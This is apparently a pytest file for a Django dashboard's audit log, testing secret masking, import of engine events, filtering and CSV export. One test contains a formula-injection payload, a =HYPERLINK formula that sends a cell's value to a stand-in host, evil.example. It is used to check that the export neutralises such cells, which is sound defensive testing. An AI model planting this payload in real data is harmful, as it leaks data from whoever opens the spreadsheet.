"""The audit log: entries written by the pages with secrets masked, CLI actions imported
from the engine's events (idempotent), the page's filters and the CSV export."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest
from django.utils import timezone

from dashboard.accounts.audit import mask, record
from dashboard.accounts.models import AuditEntry
from dashboard.services.accounts import import_engine_events

pytestmark = pytest.mark.django_db


@pytest.fixture
def cli_env(eng_env, monkeypatch):
    """The dashboard's engine is the test's engine, which the real CLI also uses."""
    for k, v in eng_env.config().env().items():
        monkeypatch.setenv(k, v)
    return eng_env


def test_mask_secrets():
    got = mask(
        {
            "env": ["PASSWORD=hunter2", "DB_PASSWORD=x", "MODE=prod", "API_TOKEN=t"],
            "registry_password": "s3cret",
            "auth": {"username": "bob", "password": "pw"},
            "labels": "a=1\nsecret_key=abc",
            "name": "web",
            "registry": "https://bob:hunter3@registry.example:5000/v2/",
        }
    )
    assert got["registry"] == "https://bob:****@registry.example:5000/v2/"
    # Every environment value is masked (its name stays): a name says too little.
    assert got["env"] == ["PASSWORD=****", "DB_PASSWORD=****", "MODE=****", "API_TOKEN=****"]
    assert got["registry_password"] == "****" and got["auth"] == "****"
    assert got["labels"] == "a=1\nsecret_key=****" and got["name"] == "web"


def test_mask_env_and_build_args_values_whatever_their_names():
    got = mask(
        {
            "env": ["MYSQL_ROOT_PW=hunter2", "GH=ghp_abc", "EMPTY=", "JUST_A_NAME"],
            "build_args": {"NPM_RC": "//registry/:_authToken=xyz", "VERSION": "1.2"},
            "name": "web",
        }
    )
    assert got["env"] == ["MYSQL_ROOT_PW=****", "GH=****", "EMPTY=", "JUST_A_NAME"]
    assert got["build_args"] == {"NPM_RC": "****", "VERSION": "****"}
    assert got["name"] == "web"


@pytest.mark.parametrize(
    "url, shown",
    [
        ("https://bob:p@ss@registry.example/v2/", "https://bob:****@registry.example/v2/"),
        ("https://ghp_secrettoken@github.com/org/repo", "https://****@github.com/org/repo"),
        (
            "pull from redis://:hunter2@10.0.0.5:6379/0 now",
            "pull from redis://:****@10.0.0.5:6379/0 now",
        ),
        ("https://registry.example/v2/?a=b@c", "https://registry.example/v2/?a=b@c"),
    ],
)
def test_mask_credentials_in_urls(url, shown):
    assert mask(url) == shown
    assert mask({"registry": url}) == {"registry": shown}


def test_record_masks_target_and_result(rf, users):
    req = rf.post("/x/")
    req.user = users["operator"]
    record(req, "image.push", "https://bob:hunter2@reg.example/app",
           result="error: cannot reach https://bob:hunter2@reg.example/v2/")  # fmt: skip
    e = AuditEntry.objects.get()
    assert "hunter2" not in e.target and "hunter2" not in e.result
    assert e.target == "https://bob:****@reg.example/app"


def test_record_masks_before_storing(rf, users):
    req = rf.post("/x/", REMOTE_ADDR="192.0.2.7")
    req.user = users["operator"]
    record(req, "container.create", "web", {"env": ["PASSWORD=hunter2"], "password": "pw"})
    e = AuditEntry.objects.get()
    assert e.actor == "operator" and e.address == "192.0.2.7" and e.source == "web"
    assert "hunter2" not in str(e.params) and "pw" not in str(e.params.values())
    assert e.params["env"] == ["PASSWORD=****"]


def test_page_action_audited_with_labels_masked(client_as, engine_root):
    r = client_as("operator").post(
        "/volumes/create/", {"name": "vol1", "labels": "team=a\napi_token=abc123"}
    )
    assert r.status_code == 302
    e = AuditEntry.objects.get(action="volume.create")
    assert e.actor == "operator" and e.target == "vol1" and e.result == "ok"
    assert e.params["labels"] == {"team": "a", "api_token": "****"}
    assert "abc123" not in client_as("admin").get("/audit/").content.decode()


def test_cli_actions_imported_once(cli_env, client_as):
    cli_env.berth("volume", "create", "fromcli", check=True)
    cli_env.berth("volume", "rm", "fromcli", check=True)
    # The dashboard's own engine actions are not imported twice (its views record them).
    client_as("operator").post("/volumes/create/", {"name": "fromweb"})
    eng = cli_env.engine()
    first = import_engine_events(eng)
    assert first == 2
    assert import_engine_events(eng) == 0  # idempotent
    assert import_engine_events(cli_env.engine()) == 0
    cli = AuditEntry.objects.filter(source="cli").order_by("event_seq")
    assert [(e.action, e.target) for e in cli] == [
        ("volume.create", "fromcli"),
        ("volume.destroy", "fromcli"),
    ]
    assert cli[0].actor.startswith("uid:0")
    assert AuditEntry.objects.filter(target="fromweb").count() == 1


def test_audit_page_imports_and_filters(cli_env, client_as):
    cli_env.berth("volume", "create", "clivol", check=True)
    client_as("operator").post("/volumes/create/", {"name": "webvol"})
    v = client_as("viewer")  # a viewer reads the audit log
    body = v.get("/audit/").content.decode()
    assert "clivol" in body and "webvol" in body
    body = v.get("/audit/", {"source": "cli"}).content.decode()
    assert "clivol" in body and "webvol" not in body
    body = v.get("/audit/", {"actor": "operator"}).content.decode()
    assert "webvol" in body and "clivol" not in body
    body = v.get("/audit/", {"q": "webv"}).content.decode()
    assert "webvol" in body and "clivol" not in body
    body = v.get("/audit/", {"target": "clivol", "action": "volume.create"}).content.decode()
    assert "clivol" in body and "webvol" not in body


def test_audit_date_filter(client_as, engine_root):
    old = AuditEntry.objects.create(
        ts=timezone.now() - timedelta(days=10), actor="admin", action="volume.create",
        target="ancient",
    )  # fmt: skip
    AuditEntry.objects.create(ts=timezone.now(), actor="admin", action="volume.create",
                              target="recent")  # fmt: skip
    v = client_as("viewer")
    day = (timezone.now() - timedelta(days=2)).date().isoformat()
    body = v.get("/audit/", {"since": day}).content.decode()
    assert "recent" in body and "ancient" not in body
    body = v.get("/audit/", {"until": day}).content.decode()
    assert "ancient" in body and "recent" not in body
    r = v.get("/audit/", {"since": "yesterday"})
    assert r.status_code == 400 and "is not a date (YYYY-MM-DD)" in r.content.decode()
    assert old.pk


def test_csv_export(client_as, engine_root):
    client_as("operator").post("/volumes/create/", {"name": "csvvol", "labels": "password=pw1"})
    client_as("operator").post("/volumes/create/", {"name": "other"})
    r = client_as("viewer").get("/audit.csv", {"target": "csvvol"})
    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
    text = b"".join(r.streaming_content).decode()
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:5] == ["time", "actor", "source", "address", "action"]
    assert len(rows) == 2
    assert rows[1][1] == "operator" and rows[1][4] == "volume.create" and rows[1][5] == "csvvol"
    assert "pw1" not in text and "****" in text


def test_audit_needs_login(client):
    assert client.get("/audit/").status_code == 302
    assert client.get("/audit.csv").status_code == 302


def test_host_changes_wait_for_their_action(engine_root):
    """The kernel side's events come before the action's own event: an import that
    runs between the two must not lose them, and must not record them twice."""
    from engine.api import Engine
    from engine.config import EngineConfig

    cli = Engine(EngineConfig.from_env(), actor="uid:0(root)")
    cli.emit("network", "host_changes", "n1", name="n1", bridge="br-n1", address="10.5.0.1/24")
    assert import_engine_events(cli) == 0  # its action is not written yet
    cli.emit("network", "create", "n1", name="n1", type="bridge")
    assert import_engine_events(cli) == 1
    e = AuditEntry.objects.get(action="network.create")
    assert e.host_changes == [
        {"change": "bridge set up", "name": "n1", "bridge": "br-n1", "address": "10.5.0.1/24"}
    ]
    assert import_engine_events(cli) == 0


def test_host_changes_without_an_action_are_recorded_alone(engine_root):
    from engine.api import Engine
    from engine.config import EngineConfig

    cli = Engine(EngineConfig.from_env(), actor="uid:0(root)")
    seq = cli.emit("network", "host_changes", "n2", name="n2", bridge_removed="True")
    # Its action failed after the kernel changed: a minute later, nothing followed.
    with cli.db.write() as c:
        c.execute("UPDATE events SET time_nano = time_nano - 60000000000 WHERE seq=?", (seq,))
    Engine(EngineConfig.from_env(), actor="user:someone").emit("volume", "create", "v", name="v")
    assert import_engine_events(cli) == 1
    e = AuditEntry.objects.get()
    assert e.action == "network.host_changes" and e.source == "cli"
    assert e.host_changes == [{"change": "bridge removed", "name": "n2"}]


def test_filter_errors_shown_in_place_for_htmx(client_as):
    """htmx swaps in only 2xx answers: a bad date must still show next to its field."""
    r = client_as("viewer").get("/audit/", {"since": "yesterday"}, HTTP_HX_REQUEST="true")
    body = r.content.decode()
    assert r.status_code == 200 and "is not a date (YYYY-MM-DD)" in body
    assert "<nav>" not in body  # the fragment, not the whole page


def test_lone_host_changes_recorded_without_a_later_event(engine_root):
    """The last thing in the events log: host changes whose action failed a minute ago.
    They are recorded alone now, not held back until some other event comes."""
    from engine.api import Engine
    from engine.config import EngineConfig

    cli = Engine(EngineConfig.from_env(), actor="uid:0(root)")
    seq = cli.emit("network", "host_changes", "n3", name="n3", bridge_removed="True")
    with cli.db.write() as c:
        c.execute("UPDATE events SET time_nano = time_nano - 60000000000 WHERE seq=?", (seq,))
    assert import_engine_events(cli) == 1
    assert AuditEntry.objects.get().action == "network.host_changes"
    assert import_engine_events(cli) == 0


def test_csv_export_defuses_formulas(client_as, users):
    """Users put text in the log (a refused volume name is recorded as typed): cells a
    spreadsheet would run as a formula are exported quoted."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    client_as("operator").post("/volumes/create/", {"name": evil})
    client_as("operator").post("/volumes/create/", {"name": "@SUM(1+1)"})
    r = client_as("viewer").get("/audit.csv", {"action": "volume.create"})
    rows = list(csv.reader(io.StringIO(b"".join(r.streaming_content).decode())))
    targets = sorted(row[5] for row in rows[1:])
    assert targets == ["'" + evil, "'@SUM(1+1)"]
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), row


def test_csv_export_refuses_a_bad_filter(client_as):
    """A bad date must not silently export the whole log."""
    r = client_as("viewer").get("/audit.csv", {"since": "last week"})
    assert r.status_code == 400 and b"is not a date (YYYY-MM-DD)" in r.content


def test_vlan_host_changes_named_as_such(engine_root):
    """macvlan/ipvlan networks make and remove a VLAN link on the host, not a bridge."""
    from dashboard.services.accounts import host_change

    def ev(**attrs):
        return {"Action": "host_changes", "Actor": {"ID": "n", "Attributes": attrs}}

    assert host_change(ev(name="mv", vlan_created="eth0.10")) == {
        "change": "vlan created", "name": "mv", "vlan": "eth0.10"
    }  # fmt: skip
    assert host_change(ev(name="mv", vlan_removed="eth0.10")) == {
        "change": "vlan removed", "name": "mv", "vlan": "eth0.10"
    }  # fmt: skip
    assert host_change(ev(name="br", bridge="b1", address="10.1.0.1/24"))["change"] == (
        "bridge set up"
    )
